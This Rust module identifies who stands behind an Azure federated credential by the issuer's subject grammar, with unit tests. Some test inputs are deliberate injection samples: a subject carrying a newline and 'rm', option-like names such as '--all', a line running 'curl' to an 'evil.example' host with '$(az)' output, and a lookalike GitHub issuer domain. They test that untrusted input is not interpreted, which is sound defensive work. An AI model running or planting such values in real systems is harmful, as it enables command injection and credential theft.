//! Activities: who stands behind a federated credential: each known form of subject by the grammar of its issuer.
//! What does not follow one was not understood; it is shown as it is, and no command is made of it. Pure.

use crate::surfaces::issuer::grammar::issuer;
use crate::surfaces::issuer::listed::ISSUERS;
use crate::surfaces::issuer::outside::Outside;
use crate::surfaces::issuer::{devops, expression, github};

use crate::commands::names::{is_label, is_subdomain};
use crate::relocate::facts::FederatedCredential;

/// Who stands behind a federated credential.
pub(crate) fn of(credential: &FederatedCredential) -> Outside {
    understood(credential).unwrap_or_else(|| Outside::Other {
        issuer: credential.issuer.clone(),
        subject: text(credential).to_owned(),
    })
}

/// What a credential says of the tokens that it takes.
fn text(credential: &FederatedCredential) -> &str {
    let claims = credential.claims_matching.as_ref().map(|claims| claims.value.as_str());
    credential.subject.as_deref().or(claims).unwrap_or_default()
}

fn understood(credential: &FederatedCredential) -> Option<Outside> {
    let (host, path) = issuer(&credential.issuer)?;
    let pattern;
    let subject = match (&credential.subject, &credential.claims_matching) {
        (Some(subject), _) => subject.as_str(),
        (None, Some(claims)) => {
            pattern = expression::subject(&claims.value)?;
            pattern.as_str()
        }
        (None, None) => return None,
    };
    if let Some(server) = github::server(host, path) {
        return github::repository(server, subject);
    }
    if let Some(connection) = devops::connection(host, path, subject) {
        return Some(Outside::AzureDevOps { connection });
    }
    if let Some((namespace, account)) = service_account(subject) {
        let issuer = credential.issuer.clone();
        return Some(Outside::Kubernetes { issuer, namespace: namespace.into(), account: account.into() });
    }
    let mut listed = ISSUERS.iter().enumerate();
    listed.find_map(|(at, by)| Some(Outside::Listed { at, names: by.names(host, path, subject)? }))
}

/// A service account of Kubernetes: its namespace and its name.
/// Source: <https://kubernetes.io/docs/reference/access-authn-authz/service-accounts-admin/>
fn service_account(subject: &str) -> Option<(&str, &str)> {
    let (namespace, account) = subject.strip_prefix("system:serviceaccount:")?.split_once(':')?;
    (is_label(namespace) && is_subdomain(account)).then_some((namespace, account))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::relocate::facts::ClaimsMatching;

    fn credential(issuer: &str, subject: &str) -> FederatedCredential {
        FederatedCredential {
            name: "n".into(),
            issuer: issuer.into(),
            subject: Some(subject.into()),
            audiences: vec!["api://AzureADTokenExchange".into()],
            claims_matching: None,
            unknown: std::collections::BTreeSet::new(),
        }
    }

    fn is_shown(issuer: &str, subject: &str) -> bool {
        of(&credential(issuer, subject)) == Outside::Other { issuer: issuer.into(), subject: subject.into() }
    }

    #[test]
    fn a_service_account_is_one_only_by_the_names_of_kubernetes() {
        let issuer = "https://westeurope.oic.prod-aks.azure.com/t/c/";
        let found = of(&credential(issuer, "system:serviceaccount:pay:w.x-1"));
        let [namespace, account] = ["pay", "w.x-1"].map(String::from);
        assert_eq!(found, Outside::Kubernetes { issuer: issuer.into(), namespace, account });
        for subject in [
            "system:serviceaccount:pay:--all",
            "system:serviceaccount:-n:x",
            "system:serviceaccount:pay:a b",
            "system:serviceaccount:pay:a\nrm",
            "system:serviceaccount:pay",
            "system:serviceaccount:pay:a:b",
            "system:serviceaccount::a",
            "system:serviceaccount:pay:*",
        ] {
            assert!(is_shown(issuer, subject), "{subject:?}");
        }
    }

    #[test]
    fn an_expression_is_understood_where_it_says_of_whom_and_shown_where_it_does_not() {
        let flexible = |issuer: &str, value: &str| {
            let claims = ClaimsMatching { value: value.into(), language_version: 1 };
            of(&FederatedCredential {
                subject: None,
                claims_matching: Some(claims),
                unknown: std::collections::BTreeSet::new(),
                ..credential(issuer, "")
            })
        };
        let github = "https://token.actions.githubusercontent.com";
        let shop = flexible(github, "claims['sub'] matches 'repo:contoso/shop:ref:refs/heads/*'");
        assert!(
            matches!(&shop, Outside::GitHub { repository, environment: None, .. } if repository == "contoso/shop")
        );
        let both = "claims['sub'] eq 'repo:o/r:environment:prod' and claims['job_workflow_ref'] matches 'o/*@refs/heads/main'";
        assert!(
            matches!(flexible(github, both), Outside::GitHub { environment: Some(e), .. } if e == "prod")
        );
        assert!(matches!(flexible(github, "claims['sub'] matches 'repo:o/r:*'"), Outside::GitHub { .. }));
        let terraform = "claims['sub'] matches 'organization:o:project:p:workspace:w:run_phase:*'";
        assert!(matches!(flexible("https://app.terraform.io", terraform), Outside::Listed { at: 0, .. }));
        for value in [
            "claims['sub'] matches 'repo:contoso/*:ref:refs/heads/main'",
            "claims['sub'] matches 'repo:o/r:environment:*'",
            "claims['job_workflow_ref'] matches 'o/r/.github/workflows/*'",
            "claims['sub'] matches 'repo:o/r:ref:x' or claims['sub'] matches 'repo:o/s:ref:x'",
            "claims['sub'] eq 'repo:o/r:ref:x' and claims['sub'] eq 'repo:o/s:ref:x'",
            "claims['sub'] matches \"repo:o/r:ref:x\"",
            "",
            "x",
        ] {
            assert!(
                matches!(flexible(github, value), Outside::Other { subject, .. } if subject == value),
                "{value}"
            );
        }
    }

    #[test]
    fn what_is_no_address_or_of_nobody_known_is_shown() {
        for (issuer, subject) in [
            ("https://x.example/k8s", "sc://org/proj/conn\ncurl http://evil.example/$(az)\n"),
            ("http://token.actions.githubusercontent.com", "repo:o/r:pull_request"),
            ("https://accounts.google.com", "1234"),
            ("https://token.actions.githubusercontent.com.evil.example", "repo:o/r:pull_request"),
            ("not an address", "repo:o/r:pull_request"),
        ] {
            assert!(is_shown(issuer, subject), "{issuer} {subject}");
        }
    }
}
